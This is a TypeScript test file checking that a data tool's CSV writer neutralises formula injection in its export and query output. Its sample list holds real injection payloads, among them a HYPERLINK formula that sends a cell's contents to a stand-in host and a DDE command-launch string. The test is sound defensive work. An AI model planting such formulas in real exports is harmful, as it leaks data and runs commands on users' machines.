/**
 * CSV (formula) injection (issue 14, item 11): a name starting with = + - @
 * tab or CR reaches a spreadsheet as text, through the one CSV writer that
 * pack data files, `ohwb export --format csv` and `ohwb query --format csv`
 * share. Numbers, negative ones included, stay numbers.
 */
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DuckDBInstance } from "@duckdb/node-api";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../core/csv-records.js";
import { csvField, toCsv } from "../../core/csv-writer.js";
import { exportAnalystTables, readExportInfo } from "../../warehouse/analyst/analyst-export.js";
import { formatQueryResult } from "../../warehouse/analyst/query-result-format.js";

const hostile = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];

describe("CSV formula injection", () => {
  it("prefixes and quotes every dangerous text cell, and reads back to the prefixed text", () => {
    for (const text of hostile) {
      const field = csvField(text);
      expect(field.startsWith(`"'`), JSON.stringify(text)).toBe(true);
      const [record] = parseCsv(`${field}\n`);
      expect(record?.fields).toEqual([`'${text}`]);
    }
  });

  it("leaves numbers, numeric text, ordinary text and nulls alone", () => {
    expect(toCsv(["a", "b", "c", "d", "e"], [[-5, "-1.5", "Leeds, North", null, "a-b"]])).toBe(
      'a,b,c,d,e\n-5,-1.5,"Leeds, North",,a-b\n',
    );
  });

  it("ohwb query --format csv neutralises a hostile name", () => {
    const csv = formatQueryResult(
      { columns: ["name", "n"], types: ["VARCHAR", "INTEGER"], rows: [{ name: "=1+1", n: -3 }] },
      "csv",
    );
    expect(csv).toBe(`name,n\r\n"'=1+1",-3\r\n`);
  });

  it("ohwb export --format csv neutralises hostile names in every table", async () => {
    const directory = mkdtempSync(join(tmpdir(), "ohwb-csv-injection-"));
    try {
      const snapshot = join(directory, "snapshot.duckdb");
      const instance = await DuckDBInstance.create(snapshot);
      const connection = await instance.connect();
      await connection.run("CREATE TABLE dim_organisation (code VARCHAR, name VARCHAR, headcount INTEGER)");
      await connection.run("CREATE TABLE mart_hostile (name VARCHAR, delta DOUBLE)");
      for (const [i, name] of hostile.entries()) {
        await connection.run("INSERT INTO dim_organisation VALUES ($1, $2, $3)", [`R${i}X`, name, i]);
        await connection.run("INSERT INTO mart_hostile VALUES ($1, $2)", [name, -i - 0.5]);
      }
      connection.closeSync();
      instance.closeSync();
      const out = join(directory, "csv");
      await exportAnalystTables(snapshot, out, "csv");
      for (const file of ["dim_organisation.csv", "mart_hostile.csv"]) {
        const [header, ...records] = parseCsv(readFileSync(join(out, file), "utf8"));
        const nameColumn = header?.fields.indexOf("name") ?? -1;
        expect(records.map((r) => r.fields[nameColumn])).toEqual(hostile.map((h) => `'${h}`));
      }
      // a database with no build record of its own still exports, and says so rather than inventing dates
      expect(readExportInfo(out)).toMatchObject({ snapshotBuiltAt: null, dataAsOf: null, scope: null });
      const deltas = parseCsv(readFileSync(join(out, "mart_hostile.csv"), "utf8")).slice(1);
      expect(deltas.map((r) => r.fields[1])).toEqual(hostile.map((_, i) => String(-i - 0.5)));
    } finally {
      rmSync(directory, { recursive: true, force: true });
    }
  });
});
